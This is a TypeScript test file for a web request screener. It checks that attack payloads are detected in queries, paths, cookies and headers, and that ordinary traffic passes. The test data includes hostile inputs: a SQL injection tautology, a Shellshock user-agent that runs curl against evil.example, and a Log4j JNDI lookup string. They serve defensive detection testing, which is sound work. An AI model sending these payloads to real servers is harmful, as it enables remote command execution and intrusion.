import { describe, expect, it } from 'vitest';
import { createScreener } from '../../../src/security/screening/index.js';
import type { ThreatEvent } from '../../../src/security/types.js';
import {
  ATTACKS,
  ENCODINGS,
  MALFORMED,
  ORDINARY,
  PROBES,
  request,
  SCANNER_AGENTS,
} from './corpus.js';

const screener = createScreener();
const show = (findings: ThreatEvent[]) => findings.map((f) => `${f.rule} (${f.evidence})`);

describe('attack corpus: each payload is found, in its category, whatever the encoding', () => {
  for (const [category, payloads] of Object.entries(ATTACKS)) {
    describe(category, () => {
      for (const [encoding, encode] of Object.entries(ENCODINGS)) {
        it(`in a query value, ${encoding}`, () => {
          const missed = payloads.filter((payload) => {
            const findings = screener.screen(request({ query: `q=${encode(payload)}` }), 'c');
            return !findings.some((f) => f.category === category);
          });
          expect(missed).toEqual([]);
        });
      }

      it('in the path', () => {
        const missed = payloads.filter((payload) => {
          const path = `/items/${encodeURIComponent(payload)}`;
          return !screener.screen(request({ path }), 'c').some((f) => f.category === category);
        });
        expect(missed).toEqual([]);
      });

      it('in a cookie value and in the referer', () => {
        for (const payload of payloads) {
          const cookie = screener.screen(
            request({ headers: { cookie: `pref=${encodeURIComponent(payload)}` } }),
            'c',
          );
          expect(
            cookie.some((f) => f.category === category),
            payload,
          ).toBe(true);
          const referer = screener.screen(
            request({
              headers: { referer: `https://x.example/?q=${encodeURIComponent(payload)}` },
            }),
            'c',
          );
          expect(
            referer.some((f) => f.category === category),
            payload,
          ).toBe(true);
        }
      });
    });
  }

  it('names the parameter and keeps short evidence', () => {
    const [finding] = screener.screen(
      request({ query: `id=7&search=${encodeURIComponent("x' or 'a'='a")}` }),
      '203.0.113.7',
    );
    expect(finding).toMatchObject({
      category: 'sql-injection',
      rule: 'sqli.tautology',
      location: 'query:search',
      client: '203.0.113.7',
      blocked: false,
    });
    expect(finding!.evidence).toContain("' or 'a'=");
    expect(finding!.evidence!.length).toBeLessThanOrEqual(100);
  });

  it('finds injections in the user agent and X-Forwarded-For too', () => {
    const ua = screener.screen(
      request({ headers: { 'user-agent': "() { :; }; /bin/bash -c 'curl evil.example'" } }),
      'c',
    );
    expect(ua.map((f) => f.rule)).toContain('cmdi.shellshock');
    const log4j = screener.screen(
      request({ headers: { 'x-forwarded-for': `\${jndi:ldap://evil.example/a}` } }),
      'c',
    );
    expect(log4j.map((f) => f.rule)).toContain('cmdi.jndi-lookup');
  });
});

describe('scanners and probes', () => {
  it.each(SCANNER_AGENTS)('knows the scanner %s', (agent) => {
    const findings = screener.screen(request({ headers: { 'user-agent': agent } }), 'c');
    expect(findings.map((f) => f.rule)).toContain('scanner.user-agent');
    expect(findings.find((f) => f.rule === 'scanner.user-agent')!.location).toBe(
      'header:user-agent',
    );
  });

  it.each(PROBES)('sees %s as %s', (path, rule) => {
    const findings = screener.screen(request({ path }), 'c');
    expect(findings.map((f) => f.rule)).toContain(rule);
    expect(findings.find((f) => f.rule === rule)!.category).toBe('sensitive-path');
  });

  it.each(MALFORMED)('sees %j as %s', (parts, rule) => {
    const findings = screener.screen(request(parts), 'c');
    expect(findings.map((f) => f.rule)).toContain(rule);
  });
});

describe('ordinary traffic', () => {
  it(`produces no finding on ${ORDINARY.length} ordinary requests`, () => {
    const noisy = ORDINARY.map((parts) => ({
      parts,
      findings: show(screener.screen(request(parts), 'c')),
    })).filter((r) => r.findings.length > 0);
    expect(noisy).toEqual([]);
  });

  it('returns the same frozen empty array when nothing is found (no allocation)', () => {
    const a = screener.screen(request({ path: '/a' }), 'c');
    const b = screener.screen(request({ path: '/b' }), 'c');
    expect(a).toBe(b);
    expect(Object.isFrozen(a)).toBe(true);
  });
});
